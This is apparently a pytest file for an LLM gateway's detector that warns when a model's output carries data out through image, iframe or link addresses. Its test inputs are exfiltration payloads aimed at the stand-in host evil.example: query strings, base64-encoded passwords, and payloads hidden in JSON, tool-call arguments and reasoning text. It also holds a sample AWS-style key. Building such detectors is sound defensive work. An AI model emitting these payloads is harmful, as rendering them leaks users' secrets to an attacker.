"""Addresses that carry data out are told of by their hosts alone."""

import pytest
from llm_gateway.domain.chat import Reasoning, ToolCall
from llm_gateway.domain.queries import Output
from llm_gateway.services.privacy.links import warnings_about


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/p.png?d=secret)",
        "![x](https://evil.example/cGFzc3dvcmQ6IGh1bnRlcjIgYW5kIG1vcmU)",
        '<img alt="" src="https://evil.example/a?b=c">',
        "![](<https://user:pw@evil.example/a.png>)",
        "![x](https://evil.example/a/4b6f3a9c1d2e8f7065a4b3c2d1e0f9a8.png)",
        "![x](https://evil.example/112097115115119111114100032105115.png)",
        f"![x](https://evil.example/{'the-words-of-the-question-' * 8}.png)",
        f"![x](https://evil.example/{'a' * 300}cGFzc3dvcmQ6IGh1bnRlcjIgYW5kIG1vcmU.png)",
        "![x](//evil.example/p.png?d=secret)",
        "![x](https://evil.example/[EMAIL_1].png)",
        '<img alt="" src = " https://evil.example/a?b=c">',
        '<iframe width="1" src="//evil.example/a?b=c">',
        "<video poster=https://evil.example/a?b=c>",
    ],
)
@pytest.mark.holds("LLM01", "LLM05")
def test_an_image_that_carries_data_out(text: str) -> None:
    assert warnings_about(Output(text=text))[:1] == [
        "The answer has an image of evil.example whose address carries data out: showing it sends them there."
    ]


@pytest.mark.parametrize(
    "text",
    [
        "[more](https://evil.example/?q=the+password+is+hunter2)",
        "[more](https://evil.example/?q=the%20password%20is%20hunter2)",
        '<a href="https://evil.example/#cGFzc3dvcmQ6IGh1bnRlcjIgYW5kIG1vcmU">x</a>',
        "[more](https://evil.example/for/[EMAIL_1])",
        "![x][1]\n\n[1]: https://evil.example/?d=secret",
        "![1]\n\n[1]://evil.example/?d=secret",
        "See [1].\n\n[1]: https://evil.example/cGFzc3dvcmQ6IGh1bnRlcjIgYW5kIG1vcmU",
    ],
)
@pytest.mark.holds("LLM05")
def test_a_link_that_carries_data_out(text: str) -> None:
    assert warnings_about(Output(text=text)) == [
        "The answer has a link to evil.example whose address carries data out: following it sends them there."
    ]


@pytest.mark.parametrize(
    "text",
    [
        "See [the docs](https://docs.example.com/guide/install.html#linux).",
        "[search](https://example.com/search?page=2&lang=en)",
        "![logo](https://example.com/logo.png)",
        "![logo](https://example.com/logo.png) and [1]\n\n[1]: https://example.com/?page=2",
        "![inline](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg)",
        "https://example.com/plain?x=1",
        "[guide](https://docs.example.com/how-to-install-python-on-linux-machines/getting_started_with_the_gateway)",
        "![chart](https://example.com/2026/annual-report/revenue-by-quarter-and-region.png)",
        "[a run](https://example.com/runs/550e8400-e29b-41d4-a716-446655440000)",
        "[docs](https://docs.example.com/GettingStartedWithPythonOnLinux/index.html)",
        "no link",
    ],
)
def test_what_is_no_such_address(text: str) -> None:
    assert warnings_about(Output(text=text)) == []


@pytest.mark.holds("LLM02", "LLM07")
def test_a_credential_is_told_of_and_tool_calls_are_read() -> None:
    call = ToolCall(id="c", name="show", arguments='{"md": "![x](https://evil.example/a?b=c)"}')
    told = warnings_about(Output(text="Use AKIAIOSFODNN7EXAMPLE", tool_calls=(call,)))
    assert told[0] == "The answer has what looks like a credential."
    assert "evil.example" in told[1]
    assert not any("AKIA" in warning for warning in told)


@pytest.mark.parametrize(
    "said",
    [
        Output(text=None, json={"a": [{"md": "![x](https://evil.example/a?b=c)"}]}),
        Output(text=None, json={"![x](https://evil.example/a?b=c)": 1}),
        Output(text=None, json="![x](https://evil.example/a?b=c)"),
        Output(
            text=None,
            tool_calls=(ToolCall(id="c", name="f", arguments='{"a": ["![x](https:\\/\\/evil.example/a?b=c)"]}'),),
        ),
        Output(
            text=None, tool_calls=(ToolCall(id="c", name="f", arguments='"!\\u005bx](https://evil.example/a?b=c)"'),)
        ),
        Output(
            text=None,
            tool_calls=(ToolCall(id="c", name="f", arguments='{"broken": "![x](https://evil.example/a?b=c)'),),
        ),
        Output(text="Yes.", reasoning=Reasoning(text="I show ![x](https://evil.example/a?b=c).")),
    ],
    ids=["JSON", "a name in JSON", "a JSON text", "slashes", "an escape", "no JSON at all", "a thought"],
)
@pytest.mark.holds("LLM05")
def test_what_is_read_is_what_its_reader_sees(said: Output) -> None:
    (told,) = warnings_about(said)
    assert told.startswith("The answer has an image of evil.example ")


def test_json_as_deep_as_can_be_is_read() -> None:
    value: object = "![x](https://evil.example/a?b=c)"
    for _ in range(5_000):
        value = [value]
    assert len(warnings_about(Output(text=None, json=value))) == 1
